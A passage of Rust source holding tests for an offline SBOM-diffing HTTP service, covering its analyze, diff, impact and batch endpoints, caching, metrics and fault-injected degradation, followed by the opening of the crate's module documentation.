        assert_eq!(handle(&state, &req, 0).status, 400);
    }

    fn analyze_payload() -> String {
        r#"{"name":"demo","seed":7,"files":{"requirements.txt":"numpy==1.19.2\nflask>=2.0\n","go.mod":"module m\nrequire github.com/pkg/errors v0.9.1\n"}}"#.to_string()
    }

    #[test]
    fn analyze_reports_four_tools_and_pairwise_jaccard() {
        let state = state();
        let resp = handle(&state, &post("/v1/analyze", &analyze_payload()), 0);
        assert_eq!(
            resp.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&resp.body)
        );
        let doc = body_json(&resp);
        assert_eq!(doc.get("tools").and_then(Value::as_array).unwrap().len(), 4);
        assert_eq!(
            doc.get("pairwise").and_then(Value::as_array).unwrap().len(),
            6
        );
        assert_eq!(
            doc.pointer("scan/metadata_files").and_then(Value::as_i64),
            Some(2)
        );
        // The shared parse cache actually memoized across the four tools.
        assert!(state.parse_cache.hits() > 0);
    }

    #[test]
    fn rewritten_manifest_is_reanalyzed_not_served_stale() {
        // Same repository name, same path, different bytes across two
        // requests against one long-lived state: the content-hashed parse
        // cache must serve the *new* parse, not the memo of the first.
        let state = state();
        let old = r#"{"name":"demo","seed":7,"include_sboms":true,"files":{"requirements.txt":"numpy==1.19.2\n"}}"#;
        let new = r#"{"name":"demo","seed":7,"include_sboms":true,"files":{"requirements.txt":"numpy==1.25.0\n"}}"#;
        let first = handle(&state, &post("/v1/analyze", old), 0);
        let second = handle(&state, &post("/v1/analyze", new), 0);
        assert_eq!(first.status, 200);
        assert_eq!(second.status, 200);
        let embedded = |resp: &Response| {
            body_json(resp)
                .pointer("sboms/Trivy")
                .and_then(Value::as_str)
                .unwrap()
                .to_string()
        };
        assert!(embedded(&first).contains("1.19.2"));
        let rewritten = embedded(&second);
        assert!(rewritten.contains("1.25.0"), "{rewritten}");
        assert!(!rewritten.contains("1.19.2"), "stale parse served");
        // The unchanged request replays as pure cache hits…
        let misses_before = state.parse_cache.misses();
        let replay = handle(&state, &post("/v1/analyze", old), 0);
        assert_eq!(replay.body, first.body);
        assert_eq!(state.parse_cache.misses(), misses_before);
    }

    #[test]
    fn analyze_surfaces_diagnostics_for_corrupted_payloads() {
        use sbomdiff_types::DiagClass;
        let state = state();
        // A truncated package.json plus an unpinned requirement the
        // Trivy/Syft dialect drops: both must come back as classified
        // diagnostics on a 2xx response — never a worker panic.
        let payload = r#"{"name":"corrupt","seed":7,"files":{"package.json":"{\"dependencies\": {\"a\":","requirements.txt":"requests>=2.8.1\n"}}"#;
        let resp = handle(&state, &post("/v1/analyze", payload), 0);
        assert_eq!(
            resp.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&resp.body)
        );
        let doc = body_json(&resp);
        let diags = doc.get("diagnostics").and_then(Value::as_array).unwrap();
        assert!(!diags.is_empty());
        let classes: Vec<&str> = diags
            .iter()
            .filter_map(|d| d.get("class").and_then(Value::as_str))
            .collect();
        assert!(classes.contains(&"truncated-input"), "{classes:?}");
        assert!(classes.contains(&"unpinned-dropped"), "{classes:?}");
        for d in diags {
            assert!(d.get("tool").and_then(Value::as_str).is_some());
            assert!(d.get("severity").and_then(Value::as_str).is_some());
            assert!(d.get("message").and_then(Value::as_str).is_some());
        }
        // Every surfaced diagnostic also incremented its /metrics counter.
        assert!(state.metrics.diagnostics(DiagClass::TruncatedInput) > 0);
        assert_eq!(state.metrics.total_diagnostics(), diags.len() as u64);
        let text = state.metrics.render(0, 0, 0);
        assert!(text.contains("sbomdiff_diagnostics_total{class=\"truncated-input\"} 1"));
    }

    #[test]
    fn analyze_is_deterministic() {
        let state = state();
        let a = handle(&state, &post("/v1/analyze", &analyze_payload()), 0);
        let b = handle(&state, &post("/v1/analyze", &analyze_payload()), 0);
        assert_eq!(a.body, b.body);
    }

    #[test]
    fn analyze_include_sboms_embeds_parseable_docs() {
        let state = state();
        let payload = analyze_payload().replace(
            "\"name\":\"demo\"",
            "\"name\":\"demo\",\"include_sboms\":true,\"best_practice\":true",
        );
        let resp = handle(&state, &post("/v1/analyze", &payload), 0);
        assert_eq!(resp.status, 200);
        let doc = body_json(&resp);
        assert_eq!(doc.get("tools").and_then(Value::as_array).unwrap().len(), 5);
        let embedded = doc.pointer("sboms/Trivy").and_then(Value::as_str).unwrap();
        assert!(SbomFormat::CycloneDx.parse(embedded).is_ok());
    }

    #[test]
    fn diff_compares_two_documents() {
        let state = state();
        // Build two documents through /v1/analyze with include_sboms.
        let payload = analyze_payload().replace(
            "\"name\":\"demo\"",
            "\"name\":\"demo\",\"include_sboms\":true",
        );
        let resp = handle(&state, &post("/v1/analyze", &payload), 0);
        let doc = body_json(&resp);
        let trivy = doc.pointer("sboms/Trivy").and_then(Value::as_str).unwrap();
        let github = doc
            .pointer("sboms/GitHub DG")
            .and_then(Value::as_str)
            .unwrap();
        let mut req = Value::object();
        req.set("a", Value::from(trivy));
        req.set("b", Value::from(github));
        let resp = handle(&state, &post("/v1/diff", &json::to_string(&req)), 0);
        assert_eq!(resp.status, 200);
        let out = body_json(&resp);
        assert_eq!(out.pointer("a/tool").and_then(Value::as_str), Some("Trivy"));
        assert!(out.get("jaccard").is_some());
        assert!(out.get("only_b_total").and_then(Value::as_i64).is_some());
    }

    #[test]
    fn diff_accepts_external_documents_across_formats() {
        let state = state();
        // Hand-written third-party documents: CycloneDX 1.4 JSON on one
        // side, SPDX 2.3 tag-value on the other.
        let cdx = concat!(
            "{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.4\",",
            "\"metadata\":{\"tools\":[{\"name\":\"syft\",\"version\":\"1.0\"}],",
            "\"component\":{\"name\":\"demo\"}},",
            "\"components\":[{\"type\":\"library\",\"name\":\"left-pad\",",
            "\"version\":\"1.3.0\",\"purl\":\"pkg:npm/left-pad@1.3.0\"}]}"
        );
        let spdx = concat!(
            "SPDXVersion: SPDX-2.3\n",
            "DataLicense: CC0-1.0\n",
            "SPDXID: SPDXRef-DOCUMENT\n",
            "DocumentName: demo-trivy\n",
            "Creator: Tool: trivy-0.50\n",
            "\n",
            "PackageName: left-pad\n",
            "SPDXID: SPDXRef-Package-0\n",
            "PackageVersion: 1.3.0\n",
            "ExternalRef: PACKAGE-MANAGER purl pkg:npm/left-pad@1.3.0\n",
        );
        let mut req = Value::object();
        req.set("a", Value::from(cdx));
        req.set("b", Value::from(spdx));
        let resp = handle(&state, &post("/v1/diff", &json::to_string(&req)), 0);
        assert_eq!(
            resp.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&resp.body)
        );
        let out = body_json(&resp);
        assert_eq!(
            out.pointer("a/format").and_then(Value::as_str),
            Some("cyclonedx")
        );
        assert_eq!(
            out.pointer("a/spec_version").and_then(Value::as_str),
            Some("1.4")
        );
        assert_eq!(
            out.pointer("b/format").and_then(Value::as_str),
            Some("spdx-tag-value")
        );
        assert_eq!(
            out.pointer("b/spec_version").and_then(Value::as_str),
            Some("SPDX-2.3")
        );
        assert_eq!(out.pointer("a/components").and_then(Value::as_i64), Some(1));
        assert_eq!(out.pointer("b/components").and_then(Value::as_i64), Some(1));
        // Both sides name the same package, so the key sets intersect.
        assert_eq!(out.get("intersection").and_then(Value::as_i64), Some(1));
        assert_eq!(out.get("degraded").and_then(Value::as_bool), Some(false));
        // Ingest metrics observed both documents.
        assert_eq!(
            state
                .metrics
                .ingest_documents(Some(ingest::DocFormat::CycloneDxJson)),
            1
        );
        assert_eq!(
            state
                .metrics
                .ingest_documents(Some(ingest::DocFormat::SpdxTagValue)),
            1
        );
        assert_eq!(
            state.metrics.ingest_bytes(),
            (cdx.len() + spdx.len()) as u64
        );
        let text = state.metrics.render(0, 0, 0);
        assert!(text.contains("sbomdiff_ingest_documents_total{format=\"cyclonedx\"} 1"));
    }

    #[test]
    fn diff_malformed_document_is_400_with_side_label() {
        let state = state();
        let mut req = Value::object();
        req.set("a", Value::from("{\"bomFormat\":\"CycloneDX\""));
        req.set("b", Value::from("SPDXVersion: SPDX-2.3\n"));
        let resp = handle(&state, &post("/v1/diff", &json::to_string(&req)), 0);
        assert_eq!(resp.status, 400);
        let msg = body_json(&resp)
            .get("error")
            .and_then(Value::as_str)
            .unwrap()
            .to_string();
        assert!(msg.contains("document \"a\""), "{msg}");
        // The unrecognizable side still counted toward ingest metrics.
        assert_eq!(state.metrics.ingest_documents(None), 1);
    }

    #[test]
    fn diff_degrades_instead_of_failing_under_injected_ingest_fault() {
        let state = state();
        // Key the rule to this document's exact byte length so concurrent
        // tests in this binary are unaffected by the global plan.
        let mut cdx =
            String::from("{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.5\",\"components\":[]}");
        while cdx.len() < 9973 {
            cdx.push('\n');
        }
        let plan = fault::FaultPlan {
            seed: 11,
            rules: vec![fault::FaultRule::new(
                fault::sites::INGEST_DOC,
                1_000_000,
                fault::FaultAction::Error,
            )
            .for_key("9973")],
        };
        let guard = fault::install(plan);
        let mut req = Value::object();
        req.set("a", Value::from(cdx.as_str()));
        req.set("b", Value::from("SPDXVersion: SPDX-2.3\n"));
        let resp = handle(&state, &post("/v1/diff", &json::to_string(&req)), 0);
        drop(guard);
        assert_eq!(
            resp.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&resp.body)
        );
        assert!(resp.degraded);
        let out = body_json(&resp);
        assert_eq!(out.get("degraded").and_then(Value::as_bool), Some(true));
        assert_eq!(out.pointer("a/components").and_then(Value::as_i64), Some(0));
        let diags = out.get("diagnostics").and_then(Value::as_array).unwrap();
        assert!(diags.iter().any(|d| {
            d.get("document").and_then(Value::as_str) == Some("a")
                && d.get("message")
                    .and_then(Value::as_str)
                    .is_some_and(fault::is_injected)
        }));
        assert!(state.metrics.degraded() >= 1);
    }

    // Two CycloneDX documents naming the same three Python packages with
    // divergent spellings: one PEP 503 case/separator variant, one `v`
    // version prefix, one exact agreement.
    fn divergent_pair() -> (String, String) {
        let mk = |tool: &str, comps: &str| {
            format!(
                concat!(
                    "{{\"bomFormat\":\"CycloneDX\",\"specVersion\":\"1.5\",",
                    "\"metadata\":{{\"tools\":[{{\"name\":\"{}\",\"version\":\"1.0\"}}],",
                    "\"component\":{{\"name\":\"demo\"}}}},",
                    "\"components\":[{}]}}"
                ),
                tool, comps
            )
        };
        let comp = |name: &str, version: &str| {
            format!(
                concat!(
                    "{{\"type\":\"library\",\"name\":\"{}\",\"version\":\"{}\",",
                    "\"properties\":[{{\"name\":\"sbomdiff:ecosystem\",\"value\":\"pypi\"}}]}}"
                ),
                name, version
            )
        };
        let a = mk(
            "syft",
            &[
                comp("Flask_Login", "0.6.2"),
                comp("werkzeug", "3.0.1"),
                comp("requests", "2.31.0"),
            ]
            .join(","),
        );
        let b = mk(
            "dependency-graph",
            &[
                comp("flask-login", "0.6.2"),
                comp("werkzeug", "v3.0.1"),
                comp("requests", "2.31.0"),
            ]
            .join(","),
        );
        (a, b)
    }

    #[test]
    fn diff_tiered_mode_reports_matched_jaccard_and_tiers() {
        let state = state();
        let (a, b) = divergent_pair();
        let mut req = Value::object();
        req.set("a", Value::from(a));
        req.set("b", Value::from(b));
        req.set("match", Value::from("tiered"));
        let resp = handle(&state, &post("/v1/diff", &json::to_string(&req)), 0);
        assert_eq!(
            resp.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&resp.body)
        );
        let out = body_json(&resp);
        // Exact identity only sees the one agreeing spelling...
        let exact = out.get("jaccard_exact").and_then(Value::as_f64).unwrap();
        assert!((exact - 0.2).abs() < 1e-9, "{exact}");
        // ...the tiers recover the PEP 503 and v-prefix divergences.
        assert_eq!(
            out.get("jaccard_matched").and_then(Value::as_f64),
            Some(1.0)
        );
        assert_eq!(
            out.pointer("match_tiers/exact").and_then(Value::as_i64),
            Some(1)
        );
        assert_eq!(
            out.pointer("match_tiers/normalized")
                .and_then(Value::as_i64),
            Some(2)
        );
        assert_eq!(out.get("matches_total").and_then(Value::as_i64), Some(2));
        let matches = out.get("matches").and_then(Value::as_array).unwrap();
        assert!(matches
            .iter()
            .all(|m| m.get("tier").and_then(Value::as_str) == Some("normalized")));
        // The legacy exact-diff fields are still present and agree.
        assert_eq!(out.get("jaccard").and_then(Value::as_f64), Some(exact));
        // Every matched pair also incremented its /metrics tier counter.
        assert_eq!(state.metrics.matches(MatchTier::Exact), 1);
        assert_eq!(state.metrics.matches(MatchTier::Normalized), 2);
        let text = state.metrics.render(0, 0, 0);
        assert!(text.contains("sbomdiff_match_total{tier=\"normalized\"} 2"));
    }

    #[test]
    fn diff_without_match_field_keeps_exact_response_shape() {
        let state = state();
        let (a, b) = divergent_pair();
        let mut req = Value::object();
        req.set("a", Value::from(a));
        req.set("b", Value::from(b));
        let resp = handle(&state, &post("/v1/diff", &json::to_string(&req)), 0);
        assert_eq!(resp.status, 200);
        let out = body_json(&resp);
        assert!(out.get("jaccard").is_some());
        assert!(out.get("jaccard_matched").is_none());
        assert!(out.get("match_tiers").is_none());
        assert_eq!(state.metrics.matches(MatchTier::Exact), 0);
    }

    #[test]
    fn diff_tiered_is_byte_identical_across_jobs_counts() {
        let state = state();
        let (a, b) = divergent_pair();
        let bodies: Vec<Vec<u8>> = [1i64, 4]
            .iter()
            .map(|&jobs| {
                let mut req = Value::object();
                req.set("a", Value::from(a.as_str()));
                req.set("b", Value::from(b.as_str()));
                req.set("match", Value::from("tiered"));
                req.set("jobs", Value::from(jobs));
                let resp = handle(&state, &post("/v1/diff", &json::to_string(&req)), 0);
                assert_eq!(resp.status, 200);
                resp.body
            })
            .collect();
        assert_eq!(bodies[0], bodies[1], "jobs=1 vs jobs=4");
    }

    #[test]
    fn diff_rejects_unknown_match_mode() {
        let state = state();
        let mut req = Value::object();
        req.set("a", Value::from("SPDXVersion: SPDX-2.3\n"));
        req.set("b", Value::from("SPDXVersion: SPDX-2.3\n"));
        req.set("match", Value::from("approximate"));
        let resp = handle(&state, &post("/v1/diff", &json::to_string(&req)), 0);
        assert_eq!(resp.status, 400);
        let msg = body_json(&resp)
            .get("error")
            .and_then(Value::as_str)
            .unwrap()
            .to_string();
        assert!(msg.contains("\"match\""), "{msg}");
    }

    #[test]
    fn impact_assesses_sbom_against_advisories() {
        let state = state();
        let payload = analyze_payload().replace(
            "\"name\":\"demo\"",
            "\"name\":\"demo\",\"include_sboms\":true",
        );
        let resp = handle(&state, &post("/v1/analyze", &payload), 0);
        let doc = body_json(&resp);
        let sbom = doc.pointer("sboms/Trivy").and_then(Value::as_str).unwrap();
        let mut req = Value::object();
        req.set("sbom", Value::from(sbom));
        req.set("vulnerable_share", Value::from(1.0));
        let resp = handle(&state, &post("/v1/impact", &json::to_string(&req)), 0);
        assert_eq!(
            resp.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&resp.body)
        );
        let out = body_json(&resp);
        assert!(out.get("advisories").and_then(Value::as_i64).unwrap() > 0);
        assert!(out.get("miss_rate").and_then(Value::as_f64).is_some());
    }

    #[test]
    fn impact_with_explicit_truth_detects_misses() {
        let state = state();
        // An empty SBOM against a non-empty truth must report misses when
        // the truth package carries an advisory at 100% share.
        let empty = SbomFormat::CycloneDx.serialize(&Sbom::new("t", "1"));
        let mut req = Value::object();
        req.set("sbom", Value::from(empty));
        req.set("vulnerable_share", Value::from(1.0));
        req.set(
            "truth",
            json::parse(r#"[{"name":"numpy","version":"1.19.2"}]"#).unwrap(),
        );
        let resp = handle(&state, &post("/v1/impact", &json::to_string(&req)), 0);
        assert_eq!(resp.status, 200);
        let out = body_json(&resp);
        let missed = out.get("missed").and_then(Value::as_array).unwrap();
        assert!(!missed.is_empty(), "{out:?}");
    }

    #[test]
    fn impact_rejects_bad_truth_and_share() {
        let state = state();
        let empty = SbomFormat::CycloneDx.serialize(&Sbom::new("t", "1"));
        let mut req = Value::object();
        req.set("sbom", Value::from(empty.as_str()));
        req.set("truth", json::parse(r#"[{"name":"x"}]"#).unwrap());
        let resp = handle(&state, &post("/v1/impact", &json::to_string(&req)), 0);
        assert_eq!(resp.status, 400);
        let mut req = Value::object();
        req.set("sbom", Value::from(empty));
        req.set("vulnerable_share", Value::from(3.5));
        let resp = handle(&state, &post("/v1/impact", &json::to_string(&req)), 0);
        assert_eq!(resp.status, 400);
    }

    #[test]
    fn impact_batched_scores_documents_against_shared_truth() {
        use sbomdiff_types::{Component, Ecosystem};
        use sbomdiff_vuln::Severity;
        let state = state();
        let mut full = Sbom::new("best-practice", "1");
        full.push(Component::new(
            Ecosystem::Python,
            "numpy",
            Some("1.19.2".into()),
        ));
        let full = SbomFormat::CycloneDx.serialize(&full);
        let empty = SbomFormat::CycloneDx.serialize(&Sbom::new("dropper", "1"));
        let mut req = Value::object();
        req.set(
            "sboms",
            Value::Array(vec![
                Value::from(full.as_str()),
                Value::from(empty.as_str()),
            ]),
        );
        req.set("ecosystem", Value::from("python"));
        req.set("vulnerable_share", Value::from(1.0));
        let resp = handle(&state, &post("/v1/impact", &json::to_string(&req)), 0);
        assert_eq!(
            resp.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&resp.body)
        );
        let out = body_json(&resp);
        assert_eq!(out.get("count").and_then(Value::as_i64), Some(2));
        assert_eq!(out.get("degraded").and_then(Value::as_bool), Some(false));
        assert_eq!(out.get("truth_packages").and_then(Value::as_i64), Some(1));
        let reports = out.get("reports").and_then(Value::as_array).unwrap();
        assert_eq!(reports.len(), 2);
        // The truth document detects its own vulnerability; the empty
        // profile misses the same advisory against the shared truth.
        let detected = reports[0]
            .get("detected")
            .and_then(Value::as_array)
            .unwrap();
        assert!(!detected.is_empty(), "{out:?}");
        let missed = reports[1].get("missed").and_then(Value::as_array).unwrap();
        assert_eq!(missed.len(), detected.len(), "{out:?}");
        assert_eq!(
            reports[1].get("miss_rate").and_then(Value::as_f64),
            Some(1.0)
        );
        // Raised advisories landed on the per-severity /metrics counters
        // and the enrichment cache served the repeated package lookups.
        let raised: u64 = Severity::ALL
            .iter()
            .map(|s| state.metrics.advisories_matched(*s))
            .sum();
        assert_eq!(raised, detected.len() as u64);
        let text = state.metrics.render(0, 0, 0);
        assert!(text.contains("sbomdiff_advisories_matched_total{severity=\""));
        let stats = state.enrich.stats();
        assert!(stats.hits > 0, "{stats:?}");
        // Both payload shapes at once are ambiguous.
        req.set("sbom", Value::from(empty.as_str()));
        let resp = handle(&state, &post("/v1/impact", &json::to_string(&req)), 0);
        assert_eq!(resp.status, 400);
    }

    #[test]
    fn impact_degrades_under_injected_enrich_fault_and_is_never_cached() {
        let state = state();
        // Key the rule to a package name no other test looks up, so the
        // process-global plan cannot leak into concurrent tests.
        let empty = SbomFormat::CycloneDx.serialize(&Sbom::new("t", "1"));
        let mut req = Value::object();
        req.set("sbom", Value::from(empty));
        req.set("vulnerable_share", Value::from(1.0));
        req.set(
            "truth",
            json::parse(r#"[{"name":"impact-fault-probe","version":"1.0.0"}]"#).unwrap(),
        );
        let body = json::to_string(&req);
        let plan = fault::FaultPlan {
            seed: 13,
            rules: vec![fault::FaultRule::new(
                fault::sites::VULN_LOOKUP,
                1_000_000,
                fault::FaultAction::Error,
            )
            .for_key("impact-fault-probe")],
        };
        let guard = fault::install(plan);
        let first = match execute_cached(&state, &post("/v1/impact", &body), 0) {
            Executed::Miss(resp) => resp,
            Executed::Hit(_) => panic!("degraded response must not enter the cache"),
        };
        assert_eq!(
            first.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&first.body)
        );
        assert!(first.degraded);
        let out = body_json(&first);
        assert_eq!(out.get("degraded").and_then(Value::as_bool), Some(true));
        assert!(out
            .get("error")
            .and_then(Value::as_str)
            .is_some_and(fault::is_injected));
        // Deterministic while the plan is live, and still not a cache hit.
        let second = match execute_cached(&state, &post("/v1/impact", &body), 0) {
            Executed::Miss(resp) => resp,
            Executed::Hit(_) => panic!("degraded response served from cache"),
        };
        assert_eq!(first.body, second.body);
        drop(guard);
        // Fault-free recomputation succeeds and becomes cacheable.
        let healthy = execute_cached(&state, &post("/v1/impact", &body), 0);
        assert!(matches!(healthy, Executed::Hit(_)));
        assert_eq!(healthy.status(), 200);
    }

    #[test]
    fn analyze_quality_scores_every_tool_and_feeds_gauges() {
        let state = state();
        let payload = analyze_payload().replace(
            "\"name\":\"demo\"",
            "\"name\":\"demo\",\"quality\":true,\"best_practice\":true",
        );
        let resp = handle(&state, &post("/v1/analyze", &payload), 0);
        assert_eq!(
            resp.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&resp.body)
        );
        let doc = body_json(&resp);
        let rows = doc.get("quality").and_then(Value::as_array).unwrap();
        assert_eq!(rows.len(), 5, "one quality row per tool incl best-practice");
        let mut best = None;
        let mut emulators = Vec::new();
        for row in rows {
            let tool = row.get("tool").and_then(Value::as_str).unwrap();
            let score = row.get("score").and_then(Value::as_f64).unwrap();
            assert!((0.0..=100.0).contains(&score), "{tool}: {score}");
            let checks = row.get("checks").unwrap();
            for check in QualityCheck::ALL {
                let cell = checks.get(check.label()).unwrap_or_else(|| {
                    panic!("{tool}: missing check cell {:?}", check.label())
                });
                assert!(cell.get("score").and_then(Value::as_f64).is_some());
                assert!(cell.get("passed").and_then(Value::as_i64).is_some());
            }
            if tool == "best-practice" {
                best = Some(score);
            } else {
                emulators.push((tool.to_string(), score));
            }
        }
        let best = best.expect("best-practice quality row");
        for (tool, score) in emulators {
            assert!(
                best > score,
                "best-practice ({best}) must beat {tool} ({score})"
            );
        }
        // Scores also landed on the /metrics gauges under profile slugs.
        assert_eq!(state.metrics.quality_score("best-practice", "total"), Some(best));
        assert!(state.metrics.quality_score("github-dg", "total").is_some());
        let text = state.metrics.render(0, 0, 0);
        assert!(text.contains("sbomdiff_quality_score{profile=\"trivy\",check=\"supplier\"}"));
        // Without the opt-in flag, no quality key appears in the response.
        let plain = handle(&state, &post("/v1/analyze", &analyze_payload()), 0);
        assert!(body_json(&plain).get("quality").is_none());
    }

    #[test]
    fn analyze_quality_degrades_under_injected_fault_and_is_never_cached() {
        let state = state();
        // Key the rule to one tool label so only the quality step trips.
        let payload = analyze_payload().replace(
            "\"name\":\"demo\"",
            "\"name\":\"quality-fault-probe\",\"quality\":true",
        );
        let plan = fault::FaultPlan {
            seed: 29,
            rules: vec![fault::FaultRule::new(
                fault::sites::QUALITY_SCORE,
                1_000_000,
                fault::FaultAction::Error,
            )
            .for_key("Syft")],
        };
        let guard = fault::install(plan);
        let first = match execute_cached(&state, &post("/v1/analyze", &payload), 0) {
            Executed::Miss(resp) => resp,
            Executed::Hit(_) => panic!("degraded response must not enter the cache"),
        };
        assert_eq!(
            first.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&first.body)
        );
        assert!(first.degraded);
        let out = body_json(&first);
        assert_eq!(out.get("degraded").and_then(Value::as_bool), Some(true));
        let rows = out.get("quality").and_then(Value::as_array).unwrap();
        assert_eq!(rows.len(), 4);
        let syft = rows
            .iter()
            .find(|r| r.get("tool").and_then(Value::as_str) == Some("Syft"))
            .unwrap();
        assert!(syft
            .get("error")
            .and_then(Value::as_str)
            .is_some_and(fault::is_injected));
        assert!(syft.get("score").is_none(), "faulted row carries no score");
        // The other tools still scored normally in the same response.
        let scored = rows
            .iter()
            .filter(|r| r.get("score").and_then(Value::as_f64).is_some())
            .count();
        assert_eq!(scored, 3, "{rows:?}");
        // Deterministic while the plan is live, and still not a cache hit.
        let second = match execute_cached(&state, &post("/v1/analyze", &payload), 0) {
            Executed::Miss(resp) => resp,
            Executed::Hit(_) => panic!("degraded response served from cache"),
        };
        assert_eq!(first.body, second.body);
        drop(guard);
        // Fault-free recomputation succeeds and becomes cacheable.
        let healthy = execute_cached(&state, &post("/v1/analyze", &payload), 0);
        assert!(matches!(healthy, Executed::Hit(_)));
        assert_eq!(healthy.status(), 200);
        let out = body_json(match &healthy {
            Executed::Hit(entry) => &entry.response,
            Executed::Miss(resp) => resp,
        });
        assert_eq!(out.get("degraded").and_then(Value::as_bool), Some(false));
        let rows = out.get("quality").and_then(Value::as_array).unwrap();
        assert!(rows
            .iter()
            .all(|r| r.get("score").and_then(Value::as_f64).is_some()));
    }

    #[test]
    fn batch_routes_entries_and_embeds_sub_responses() {
        let state = state();
        let mut req = Value::object();
        let mut a = Value::object();
        a.set("path", Value::from("/v1/analyze"));
        a.set("body", json::parse(&analyze_payload()).unwrap());
        let mut b = Value::object();
        b.set("path", Value::from("/v1/impact"));
        let mut impact_body = Value::object();
        impact_body.set(
            "sbom",
            Value::from(SbomFormat::CycloneDx.serialize(&Sbom::new("t", "1"))),
        );
        b.set("body", impact_body);
        req.set("requests", Value::Array(vec![a, b]));
        let resp = handle(&state, &post("/v1/batch", &json::to_string(&req)), 0);
        assert_eq!(
            resp.status,
            200,
            "{:?}",
            String::from_utf8_lossy(&resp.body)
        );
        let out = body_json(&resp);
        assert_eq!(out.get("count").and_then(Value::as_i64), Some(2));
        assert_eq!(out.get("degraded").and_then(Value::as_bool), Some(false));
        let rows = out.get("responses").and_then(Value::as_array).unwrap();
        assert_eq!(rows.len(), 2);
        assert_eq!(
            rows[0].get("status").and_then(Value::as_i64),
            Some(200),
            "{rows:?}"
        );
        // The embedded body string is the sub-handler's exact JSON output.
        let embedded = rows[0].get("body").and_then(Value::as_str).unwrap();
        let standalone = handle(&state, &post("/v1/analyze", &analyze_payload()), 0);
        assert_eq!(embedded.as_bytes(), standalone.body.as_slice());
        assert_eq!(rows[1].get("status").and_then(Value::as_i64), Some(200));
    }

    #[test]
    fn batch_rejects_bad_envelopes() {
        let state = state();
        for body in ["{}", "{\"requests\": []}", "{\"requests\": 3}"] {
            let resp = handle(&state, &post("/v1/batch", body), 0);
            assert_eq!(resp.status, 400, "{body}");
        }
        // Over the entry cap.
        let entry = r#"{"path":"/v1/impact","body":{}}"#;
        let body = format!("{{\"requests\":[{}]}}", vec![entry; 257].join(","));
        assert_eq!(handle(&state, &post("/v1/batch", &body), 0).status, 400);
        // GET on the endpoint is a 405 like its siblings.
        let get = Request {
            method: "GET".into(),
            path: "/v1/batch".into(),
            body: vec![],
        };
        assert_eq!(handle(&state, &get, 0).status, 405);
    }

    #[test]
    fn batch_invalid_entries_fail_per_row_not_whole_batch() {
        let state = state();
        let body = concat!(
            "{\"requests\":[",
            "{\"path\":\"/v1/batch\",\"body\":{}},", // recursion refused
            "{\"path\":\"/v1/diff\"},",              // missing body
            "{\"path\":\"/v1/diff\",\"body\":{}}",   // routed: handler 400s
            "]}"
        );
        let resp = handle(&state, &post("/v1/batch", body), 0);
        assert_eq!(resp.status, 200);
        let out = body_json(&resp);
        let rows = out.get("responses").and_then(Value::as_array).unwrap();
        assert_eq!(rows.len(), 3);
        for row in rows {
            assert_eq!(row.get("status").and_then(Value::as_i64), Some(400));
        }
    }

    #[test]
    fn batch_sub_requests_share_the_response_cache() {
        let state = state();
        let entry = format!(
            "{{\"path\":\"/v1/analyze\",\"body\":{}}}",
            analyze_payload()
        );
        // The same payload twice in one batch: second entry is a hit.
        let body = format!("{{\"requests\":[{entry},{entry}]}}");
        let first = handle(&state, &post("/v1/batch", &body), 0);
        assert_eq!(first.status, 200);
        assert!(state.cache.hits() >= 1, "hits={}", state.cache.hits());
        // A standalone POST of the same payload is also a hit now.
        let hits_before = state.cache.hits();
        match execute_cached(&state, &post("/v1/analyze", &analyze_payload()), 0) {
            Executed::Hit(hit) => {
                assert_eq!(hit.response.status, 200);
                assert_eq!(&*hit.wire, hit.response.serialize(false).as_slice());
            }
            Executed::Miss(_) => panic!("expected a cache hit"),
        }
        assert_eq!(state.cache.hits(), hits_before + 1);
    }

    #[test]
    fn execute_cached_skips_errors_and_non_v1_paths() {
        let state = state();
        // An error response is never cached: same request, still a miss.
        let bad = post("/v1/diff", "not json");
        assert!(matches!(
            execute_cached(&state, &bad, 0),
            Executed::Miss(ref r) if r.status == 400
        ));
        let misses = state.cache.misses();
        assert!(matches!(
            execute_cached(&state, &bad, 0),
            Executed::Miss(ref r) if r.status == 400
        ));
        assert_eq!(state.cache.misses(), misses + 1);
        // GETs bypass the cache entirely (no lookup, no insertion).
        let get = Request {
            method: "GET".into(),
            path: "/healthz".into(),
            body: vec![],
        };
        let lookups = state.cache.hits() + state.cache.misses();
        assert!(matches!(
            execute_cached(&state, &get, 0),
            Executed::Miss(ref r) if r.status == 200
        ));
        assert_eq!(state.cache.hits() + state.cache.misses(), lookups);
    }

    #[test]
    fn registries_and_advisories_are_memoized() {
        let state = state();
        let a = state.registries(5);
        let b = state.registries(5);
        assert!(Arc::ptr_eq(&a, &b));
        let da = state.advisory_db(5, 1, 0.2);
        let db = state.advisory_db(5, 1, 0.2);
        assert!(Arc::ptr_eq(&da, &db));
    }
}

//! `sbomdiff-service`: an offline HTTP serving layer over the differential
//! SBOM analysis pipeline.
//!
//! The service turns the batch machinery (tool emulators, format
//! round-tripping, diff metrics, vulnerability impact assessment) into
//! request/response endpoints:
//!
//! * `POST /v1/analyze` — in-memory repository tree in, four emulator SBOMs
//!   plus pairwise diff metrics out,
//! * `POST /v1/diff` — two serialized SBOM documents in, a diff report out,
//! * `POST /v1/impact` — an SBOM plus advisory-db parameters in, a
//!   [`sbomdiff_vuln`] impact report out,
//! * `POST /v1/batch` — many of the above in one round trip, amortizing
//!   parse and dispatch over the whole batch,
//! * `GET /healthz` and `GET /metrics` for liveness and observability.
//!
//! Everything is built on `std` only — the HTTP/1.1 server is a
//! nonblocking epoll reactor ([`reactor`]) speaking to the kernel through
//! a hand-rolled syscall shim, so the crate honours the repository's
//! no-external-dependencies policy. The serving machinery provides:
//!
//! * edge-triggered accept/read/write state machines per connection
//!   ([`conn`]) with HTTP/1.1 keep-alive and pipelining,
//! * a timeout taxonomy (DESIGN.md §18): stalled partial requests answer
//!   `408` (counted per phase in `sbomdiff_timeouts_total`), idle
//!   keep-alive connections are reaped silently,
//! * a bounded job queue with admission control ([`queue`]) — overload
